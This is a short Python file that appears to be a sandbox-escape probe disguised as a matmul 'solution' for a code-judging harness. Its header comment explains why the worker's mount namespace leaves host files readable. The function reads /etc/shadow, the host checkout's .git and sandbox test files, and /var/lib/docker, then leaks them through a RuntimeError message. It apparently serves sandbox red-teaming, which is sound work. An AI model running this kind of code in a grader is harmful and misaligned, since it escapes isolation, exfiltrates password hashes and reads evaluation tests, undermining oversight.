# target: matmul (any). Idea: read files of the judge's host from inside the worker. The mount
# namespace hides only /tmp, /var/tmp, /root, /home, /run/user and the judge's caches; everything else
# (/etc, /work/..., other checkouts and their .git, /var/lib/...) stays readable, and because the
# judge runs as root and the user namespace maps 0 -> 0, the worker reads root-only files too
# (/etc/shadow is 0640 root:shadow). Exfiltrated via the runtime_error message.
# Defeats: the file-system part of the sandbox (sandbox/isolation.py::plan, worker/confine.py).
import os
import triton  # noqa: F401


def _read(p, n=80):
    try:
        return open(p, errors="replace").read()[:n]
    except Exception as e:
        return f"ERR {type(e).__name__}"


def solution(a, b):
    st = os.stat("/etc/shadow")
    got = {
        "/etc/shadow mode": oct(st.st_mode & 0o777),
        "/etc/shadow": _read("/etc/shadow", 40),
        "/work/main/.git/HEAD": _read("/work/main/.git/HEAD"),
        "/work/main/tests": sorted(os.listdir("/work/main/tests"))[:6],
        "/work/main/tests/test_sandbox.py": _read("/work/main/tests/test_sandbox.py", 60),
        "/var/lib/docker": _read("/var/lib/docker") if os.path.isfile("/var/lib/docker") else os.listdir("/var/lib/docker")[:5] if os.path.isdir("/var/lib/docker") else "absent",
        "environ vars": len(os.environ),
    }
    raise RuntimeError(repr(got))
